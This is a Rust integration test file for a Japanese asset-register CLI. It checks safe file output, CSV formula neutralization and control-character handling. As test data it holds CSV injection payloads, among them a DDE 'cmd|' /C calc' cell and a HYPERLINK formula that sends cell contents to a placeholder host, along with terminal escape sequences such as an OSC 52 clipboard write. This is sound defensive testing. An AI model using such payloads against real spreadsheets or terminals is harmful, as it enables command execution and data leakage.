//! Outputs (issue 11): a file the CLI writes never replaces the register or
//! its journals, never follows a symbolic link, replaces an existing file
//! only with `--force`, and is owner-only whatever the umask; every CSV it
//! writes is formula-safe; control characters are refused on the way in and
//! shown, not obeyed, on the way out.

use std::fmt::Write as _;
use std::path::Path;

use daicho_tests::{Run, Workspace, daicho_bin};
use sha2::{Digest, Sha256};

/// Cells that a spreadsheet would run: one for each formula character.
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"詳細\")",
    "+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1+1)",
];

/// What starts a formula in a spreadsheet.
const FORMULA_STARTS: &[u8] = b"=+-@\t\r";

fn sha256(path: &Path) -> String {
    let bytes = std::fs::read(path).unwrap();
    Sha256::digest(&bytes)
        .iter()
        .fold(String::new(), |mut hex, b| {
            let _ = write!(hex, "{b:02x}");
            hex
        })
}

/// The names in a directory, sorted.
fn names(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

/// A register with one asset.
fn register() -> Workspace {
    let ws = Workspace::new();
    ws.daicho(["init"]).success();
    ws.daicho([
        "add",
        "--kind",
        "ア",
        "--name",
        "端末",
        "--org",
        "水道局",
        "-c",
        "2",
        "-i",
        "2",
        "-a",
        "2",
    ])
    .success();
    ws
}

/// Runs SQL on a register file, as a person with write access to it could.
fn plant(db: &Path, sql: &str) {
    let conn = rusqlite::Connection::open(db).unwrap();
    conn.execute_batch(sql).unwrap();
}

#[track_caller]
fn refused(run: &Run, what: &str) {
    assert_eq!(run.code, 1, "{run:?}");
    assert!(run.stderr.starts_with("error: "), "{}", run.stderr);
    assert!(run.stderr.contains(what), "{what}: {}", run.stderr);
}

#[test]
fn the_register_and_its_journals_are_never_an_output() {
    let ws = register();
    let db = ws.db();
    let before = sha256(&db);
    // The same file by another name: a hard link, and another spelling.
    std::fs::hard_link(&db, ws.path().join("linked.db")).unwrap();
    let dests = [
        "register.db",
        "./register.db",
        "linked.db",
        "register.db-wal",
        "register.db-shm",
        "register.db-journal",
    ];
    for dest in dests {
        for force in [false, true] {
            let mut args = vec!["export", "-o", dest];
            if force {
                args.push("--force");
            }
            let run = ws.daicho_en(&args);
            refused(
                &run,
                &format!("refusing to write `{dest}`: it is one of the register's own files"),
            );
            // As the link sheet too; and then the asset sheet is not written either.
            let run = ws.daicho_en(["export", "-o", "assets.csv", "--links", dest, "--force"]);
            refused(&run, "it is one of the register's own files");
            assert!(!ws.path().join("assets.csv").exists());
        }
    }
    assert_eq!(sha256(&db), before, "the register changed");
    ws.daicho(["verify"]).success();
    let listed = ws.daicho(["--format", "json", "list"]).success().json();
    assert_eq!(listed.as_array().unwrap().len(), 1);
    // Nothing was left behind.
    assert!(
        names(ws.path())
            .iter()
            .all(|n| n.starts_with("register.db") || n == "linked.db"),
        "{:?}",
        names(ws.path())
    );
}

#[test]
fn an_existing_file_is_replaced_only_with_force() {
    let ws = register();
    let old = ws.path().join("old-backup.db");
    std::fs::write(&old, b"an old backup").unwrap();
    let run = ws.daicho_en(["export", "-o", "old-backup.db"]);
    refused(
        &run,
        "a file exists already at `old-backup.db`; --force replaces it",
    );
    assert_eq!(std::fs::read(&old).unwrap(), b"an old backup");
    let run = ws.daicho_en(["export", "-o", "new.csv", "--links", "old-backup.db"]);
    refused(&run, "a file exists already at `old-backup.db`");
    assert!(!ws.path().join("new.csv").exists());

    ws.daicho_en(["export", "-o", "old-backup.db", "--force"])
        .success();
    let replaced = std::fs::read(&old).unwrap();
    assert!(
        replaced.starts_with(b"\xEF\xBB\xBFid,asset_number,kind,name"),
        "{replaced:?}"
    );
}

#[test]
fn a_failed_export_leaves_no_file_behind() {
    let ws = register();
    ws.daicho(["edit", "端末", "--notes", "𠮷野家"]).success();
    let run = ws.daicho_en(["export", "--encoding", "cp932", "-o", "out.csv"]);
    refused(&run, "cannot be written in cp932");
    assert!(
        names(ws.path())
            .iter()
            .all(|n| n.starts_with("register.db")),
        "{:?}",
        names(ws.path())
    );
}

#[cfg(unix)]
#[test]
fn a_symbolic_link_is_never_followed() {
    use std::os::unix::fs::PermissionsExt;
    let ws = register();
    let target = ws.path().join("target.txt");
    std::fs::write(&target, b"not to be touched").unwrap();
    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::os::unix::fs::symlink(&target, ws.path().join("out.csv")).unwrap();
    // A link to the register, too.
    std::os::unix::fs::symlink(ws.db(), ws.path().join("register-link.db")).unwrap();
    let before = sha256(&ws.db());
    for args in [
        &["export", "-o", "out.csv"][..],
        &["export", "-o", "out.csv", "--force"],
        &["export", "-o", "new.csv", "--links", "out.csv", "--force"],
        &["export", "-o", "register-link.db", "--force"],
    ] {
        let run = ws.daicho_en(args);
        refused(&run, "it is a symbolic link, which is never followed");
    }
    assert_eq!(std::fs::read(&target).unwrap(), b"not to be touched");
    let mode = std::fs::metadata(&target).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o644);
    assert_eq!(sha256(&ws.db()), before);
    assert!(!ws.path().join("new.csv").exists());
}

#[cfg(unix)]
#[test]
fn outputs_are_owner_only_under_umask_000() {
    use std::os::unix::fs::PermissionsExt;
    let ws = register();
    std::fs::write(ws.path().join("replaced.csv"), b"old").unwrap();
    std::fs::set_permissions(
        ws.path().join("replaced.csv"),
        std::fs::Permissions::from_mode(0o666),
    )
    .unwrap();
    for args in [
        &["export", "-o", "assets.csv", "--links", "links.csv"][..],
        &["export", "-o", "replaced.csv", "--force"],
    ] {
        let output = std::process::Command::new("sh")
            .arg("-c")
            .arg("umask 000; exec \"$0\" \"$@\"")
            .arg(daicho_bin())
            .args(args)
            .current_dir(ws.path())
            .env("DAICHO_DB", ws.db())
            .output()
            .unwrap();
        Run::from(output).success();
    }
    for name in ["assets.csv", "links.csv", "replaced.csv"] {
        let mode = std::fs::metadata(ws.path().join(name))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600, "{name} has mode {mode:o}");
    }
    // The umask really was 000: a file made the ordinary way is world-writable.
    let output = std::process::Command::new("sh")
        .arg("-c")
        .arg("umask 000; touch plain.txt")
        .current_dir(ws.path())
        .output()
        .unwrap();
    assert!(output.status.success());
    let mode = std::fs::metadata(ws.path().join("plain.txt"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o666);
}

/// A register whose names, departments, managers, locations, notes, extra
/// values and actors start with formula characters, with links, risks, a
/// disposal and history; and, as an older register or a hand edit could
/// hold them, a department, a note and actors starting with a tab or CR.
fn hostile_register() -> Workspace {
    let ws = Workspace::new();
    ws.daicho(["init"]).success();
    for text in FORMULAS {
        let as_actor = |args: &[String]| {
            let mut all = vec![format!("--actor={text}")];
            all.extend(args.iter().cloned());
            ws.daicho(&all).success();
        };
        let data = format!("{text}データ");
        as_actor(&[
            "add".into(),
            "--kind=ア".into(),
            format!("--name={text}"),
            "--org=水道局".into(),
            format!("--dept={text}"),
            format!("--manager={text}"),
            format!("--location={text}"),
            format!("--notes={text}"),
            format!("--provider={text}"),
            "--hosting=cloud".into(),
            format!("--extra=@列={text}"),
            "--confidentiality=2".into(),
            "--integrity=2".into(),
            "--availability=2".into(),
        ]);
        as_actor(&[
            "add".into(),
            "--kind=イ".into(),
            format!("--name={data}"),
            "--org=水道局".into(),
            format!("--dept={text}"),
            "--confidentiality=3B".into(),
            "--integrity=2".into(),
            "--availability=2".into(),
            "--my-number=有".into(),
        ]);
        // After `--`, a name starting with `-` is not taken for an option.
        as_actor(&[
            "link".into(),
            "--".into(),
            data.clone(),
            "stored_on".into(),
            text.into(),
        ]);
        as_actor(&[
            "edit".into(),
            format!("--notes={text}2"),
            "--".into(),
            text.into(),
        ]);
        as_actor(&[
            "risk".into(),
            "set".into(),
            "--".into(),
            text.into(),
            "intentional".into(),
            "2".into(),
            "3".into(),
        ]);
    }
    ws.daicho([
        "--actor=-1",
        "dispose",
        "--by=-1",
        "--method=@SUM(1)",
        "--date=2026-01-05",
        "--",
        "-1データ",
    ])
    .success();
    plant(
        &ws.db(),
        "UPDATE assets SET department = char(9) || '=SUM(1)', notes = char(13) || '=SUM(2)' \
             WHERE name = '@SUM(1+1)';
         -- Entry 1 is the register's `init`; 2 and 3 are the first asset's.
         UPDATE audit_log SET actor = char(9) || '=actor' WHERE seq = 2;
         UPDATE audit_log SET actor = char(13) || '+actor' WHERE seq = 3;",
    );
    ws
}

/// The cells of a CSV (a byte-order mark skipped).
fn cells(bytes: &[u8]) -> Vec<Vec<u8>> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes);
    let mut cells = Vec::new();
    for record in reader.byte_records() {
        let record = record.unwrap();
        cells.extend(record.iter().map(<[u8]>::to_vec));
    }
    cells
}

#[test]
#[expect(
    clippy::too_many_lines,
    reason = "every command that writes CSV, one after another on one register"
)]
fn every_command_that_writes_csv_neutralizes_formulas() {
    let ws = hostile_register();
    let mut outputs: Vec<(String, Vec<u8>)> = Vec::new();
    let mut csv = |args: Vec<String>, codes: &[i32]| {
        let mut all = vec!["--format".to_owned(), "csv".to_owned()];
        all.extend(args.iter().cloned());
        let run = ws.daicho(&all);
        assert!(codes.contains(&run.code), "{args:?}: {run:?}");
        assert!(!run.stdout.is_empty(), "{args:?} printed nothing");
        outputs.push((args.join(" "), run.stdout.into_bytes()));
    };
    let s = |items: &[&str]| items.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>();
    for lang in ["ja", "en"] {
        csv(s(&["--lang", lang, "list"]), &[0]);
        csv(
            s(&[
                "--lang",
                lang,
                "check",
                "--today",
                "2026-11-25",
                "--fail-on",
                "never",
            ]),
            &[0],
        );
        csv(s(&["--lang", lang, "summary"]), &[0]);
        csv(s(&["--lang", lang, "risk"]), &[0]);
        // The planted actors broke the audit chain: verify fails, and says so in CSV.
        csv(s(&["--lang", lang, "verify"]), &[1]);
        for text in FORMULAS {
            let data = format!("{text}データ");
            for command in ["show", "history", "explain"] {
                csv(s(&["--lang", lang, command, "--", text]), &[0]);
                csv(s(&["--lang", lang, command, "--", &data]), &[0]);
            }
        }
        csv(
            s(&[
                "--lang",
                lang,
                "check",
                "--what-if-link",
                "=HYPERLINK(\"http://example.invalid/?\"&A1,\"詳細\")データ",
                "stored_on",
                "@SUM(1+1)",
            ]),
            &[0],
        );
        csv(
            s(&[
                "--lang",
                lang,
                "check",
                "--what-if-class",
                "@SUM(1+1)",
                "3A",
                "2",
                "2",
            ]),
            &[0],
        );
        for section in [
            "levels",
            "organizations",
            "restrictions",
            "controls",
            "exclusions",
        ] {
            csv(s(&["--lang", lang, "policy", section]), &[0]);
        }
    }
    // The commands that change an asset print it.
    csv(
        s(&[
            "add",
            "--kind=ア",
            "--name=-2",
            "--org=水道局",
            "--dept=@x",
            "--notes=+1",
            "--confidentiality=2",
            "--integrity=2",
            "--availability=2",
        ]),
        &[0],
    );
    csv(
        s(&["edit", "--notes==1+1", "--manager=-x", "--", "-2"]),
        &[0],
    );
    csv(
        s(&["dispose", "--by=@y", "--date=2026-01-06", "--", "-2"]),
        &[0],
    );
    // The sheets, to stdout and to files, in each encoding.
    csv(s(&["export"]), &[0]);
    for (headers, encoding) in [("en", "utf-8-sig"), ("ja", "utf-8"), ("ja", "cp932")] {
        ws.daicho([
            "export",
            "--headers",
            headers,
            "--encoding",
            encoding,
            "-o",
            "assets.csv",
            "--links",
            "links.csv",
            "--force",
        ])
        .success();
        for file in ["assets.csv", "links.csv"] {
            let bytes = std::fs::read(ws.path().join(file)).unwrap();
            outputs.push((format!("export {headers} {encoding} {file}"), bytes));
        }
    }

    let mut seen = Vec::new();
    for (command, bytes) in &outputs {
        for cell in cells(bytes) {
            assert!(
                !cell.first().is_some_and(|b| FORMULA_STARTS.contains(b)),
                "{command}: the cell {:?} starts a formula",
                String::from_utf8_lossy(&cell)
            );
            seen.push(cell);
        }
    }
    // Every hostile value did come through, neutralized.
    for expected in [
        &b"'=HYPERLINK("[..],
        b"'+cmd|",
        b"'-1",
        b"'@SUM(1+1)",
        b"'\t=SUM(1)",
        b"'\r=SUM(2)",
        b"'\t=actor",
        b"'\r+actor",
        b"'@\xE5\x88\x97", // the extra column `@列`
    ] {
        assert!(
            seen.iter().any(|cell| cell.starts_with(expected)),
            "no cell starts with {:?}",
            String::from_utf8_lossy(expected)
        );
    }

    // And the importer restores them: the exported sheet, imported into a
    // new register, gives the values back without their `'`.
    ws.daicho(["export", "-o", "assets.csv", "--force"])
        .success();
    let copy = Workspace::new();
    copy.daicho(["init"]).success();
    std::fs::copy(ws.path().join("assets.csv"), copy.path().join("assets.csv")).unwrap();
    copy.daicho(["import", "assets.csv"]).success();
    let listed = copy.daicho(["--format", "json", "list"]).success().json();
    for text in FORMULAS {
        let extra = serde_json::json!([["@列", text]]);
        assert!(
            listed.as_array().unwrap().iter().any(|a| a["name"] == text
                && a["manager"] == text
                && a["location"] == text
                && a["provider"] == text
                && a["extra"] == extra),
            "{text} was not restored: {listed}"
        );
    }
}

#[test]
fn control_characters_are_refused_on_the_way_in() {
    let ws = register();
    let add = |field: &str| {
        vec![
            "add".to_owned(),
            "--kind=ア".to_owned(),
            "--name=新しい端末".to_owned(),
            "--org=水道局".to_owned(),
            "--confidentiality=2".to_owned(),
            "--integrity=2".to_owned(),
            "--availability=2".to_owned(),
            field.to_owned(),
        ]
    };
    let edit = |field: &str| vec!["edit".to_owned(), "端末".to_owned(), field.to_owned()];
    for (args, message) in [
        (
            add("--notes=備考\u{1b}[2J"),
            "invalid notes `備考\\u{1b}[2J`: control character U+001B is not allowed (only line breaks are)",
        ),
        (
            add("--dept=情報政策課\u{1b}]52;c;ZXZpbA==\u{7}"),
            "invalid department `情報政策課\\u{1b}]52;c;ZXZpbA==\\u{7}`: control character U+001B is not allowed",
        ),
        (
            edit("--notes=\u{1b}[1A上書き"),
            "invalid notes `\\u{1b}[1A上書き`: control character U+001B is not allowed",
        ),
        (
            edit("--dept=市民\u{9b}31m課"),
            "invalid department `市民\\u{9b}31m課`: control character U+009B is not allowed",
        ),
        (
            edit("--notes=表示\r偽装"),
            "invalid notes `表示\\r偽装`: control character U+000D is not allowed",
        ),
        (
            edit("--location=一階\n二階"),
            "invalid location `一階\\n二階`: control character U+000A is not allowed",
        ),
        (
            vec![
                "--actor=監査\u{1b}[8m太郎".to_owned(),
                "edit".to_owned(),
                "端末".to_owned(),
                "--notes=ok".to_owned(),
            ],
            "invalid actor `監査\\u{1b}[8m太郎`: control character U+001B is not allowed",
        ),
    ] {
        let run = ws.daicho_en(&args);
        refused(&run, message);
        assert!(
            !run.stderr.contains(['\u{1b}', '\u{9b}', '\r', '\u{7}']),
            "{:?}",
            run.stderr
        );
    }
    // Nothing was written; line breaks in notes are welcome.
    let history = ws
        .daicho(["--format", "json", "history", "端末"])
        .success()
        .json();
    assert_eq!(history.as_array().unwrap().len(), 1, "{history}");
    ws.daicho(["edit", "端末", "--notes=一行目\r\n二行目\n三行目"])
        .success();
}

#[test]
fn control_characters_in_an_older_register_are_shown_escaped() {
    let ws = register();
    plant(
        &ws.db(),
        "UPDATE assets SET department = '情報' || char(27) || '[2J課', \
             notes = '上書き' || char(13) || '偽の表示', \
             location = char(27) || ']52;c;ZXZpbA==' || char(7) || char(155) || '31m';
         UPDATE audit_log SET actor = '監査' || char(27) || '[31m太郎';",
    );
    for args in [
        &["show", "端末"][..],
        &["history", "端末"],
        &["list"],
        &["--lang", "en", "show", "端末"],
    ] {
        let run = ws.daicho(args).success();
        assert!(
            !run.stdout.contains(['\u{1b}', '\r', '\u{7}', '\u{9b}']),
            "{args:?}: {:?}",
            run.stdout
        );
        let expected: &[&str] = match args.last() {
            Some(&"端末") if args.contains(&"history") => &["監査␛[31m太郎"],
            Some(&"端末") => &[
                "情報␛[2J課",
                "上書き␍偽の表示",
                "␛]52;c;ZXZpbA==␇\\u{9b}31m",
            ],
            _ => &["情報␛[2J課"],
        };
        for text in expected {
            assert!(
                run.stdout.contains(text),
                "{args:?}: {text} in {}",
                run.stdout
            );
        }
    }
}
